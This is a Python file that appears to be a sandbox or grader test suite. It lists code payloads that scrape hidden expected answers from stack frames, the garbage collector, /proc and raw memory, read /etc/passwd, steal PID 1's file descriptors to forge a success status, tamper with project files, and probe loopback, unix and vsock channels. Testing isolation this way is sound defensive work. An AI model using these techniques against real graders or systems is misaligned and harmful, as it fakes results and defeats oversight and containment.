"""Looks for the expected values, or for a way out, in memory, files and network."""

HUNTERS = {
    "frame_walk": """
import re, sys
def solve(x):
    frame, text = sys._getframe(), ""
    while frame:
        text += repr([frame.f_locals, frame.f_globals])
        frame = frame.f_back
    hit = re.search("SECRET-[0-9a-f]{16}", text)
    return hit and hit.group()
""",
    "gc_walk": """
import gc, re
def solve(x):
    hit = re.search("SECRET-[0-9a-f]{16}", repr(gc.get_objects())[:10_000_000])
    return hit and hit.group()
""",
    "proc_walk": """
import os, re
def solve(x):
    for pid in os.listdir("/proc"):
        for name in ("cmdline", "environ", "maps", "mem", "status", "fd/0", "fd/3", "root/etc/passwd", "cwd/x"):
            try: text = open(f"/proc/{pid}/{name}", "rb").read(1 << 20)
            except OSError: continue
            hit = re.search(rb"SECRET-[0-9a-f]{16}", text)
            if hit: return hit.group().decode()
""",
    "own_memory_scan": """
import ctypes, re
def solve(x):
    for line in open("/proc/self/maps"):
        if "rw-p" in line:
            a, b = (int(n, 16) for n in line.split()[0].split("-"))
            hit = re.search(rb"SECRET-[0-9a-f]{16}", ctypes.string_at(a, b - a))
            if hit: return hit.group().decode()
""",
    "zygote_descriptors": """
import os
def solve(x):
    return [os.readlink(f"/proc/1/fd/{fd}") for fd in os.listdir("/proc/1/fd")]
""",
    "steal_descriptors_by_pidfd": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def solve(x):
    zygote = os.pidfd_open(1)
    stolen = [libc.syscall(438, zygote, fd, 0) for fd in range(16)]
    for fd in stolen:
        if fd >= 0: os.write(fd, b'{"status": 0}')
    os._exit(0)
""",
    "read_project_files": """
def solve(x):
    for path in PATHS:
        try: return open(path).read(100)
        except OSError: pass
""",
    "write_project_files": """
def solve(x):
    for path in PATHS:
        try: open(path, "a").write("pwned")
        except OSError: pass
    return "wrote"
""",
    "symlinks_out": """
import os
for i, path in enumerate(PATHS + ["/etc/passwd", "/", "/proc/1/root"]):
    os.symlink(path, f"link{i}")
def solve(x):
    for name in os.listdir("."):
        try: return open(name).read(100)
        except OSError: pass
""",
    "live_loopback_listener": """
import socket
def solve(x):
    with socket.create_connection(("127.0.0.1", PORT), timeout=0.5) as s:
        s.sendall(b"from inside")
        return s.recv(100).decode()
""",
    "abstract_unix_listener": """
import socket
def solve(x):
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(ABSTRACT)
        return "connected"
""",
    "vsock_to_the_host": "import socket\ndef solve(x):\n    return str(socket.socket(40, socket.SOCK_STREAM))\n",
}
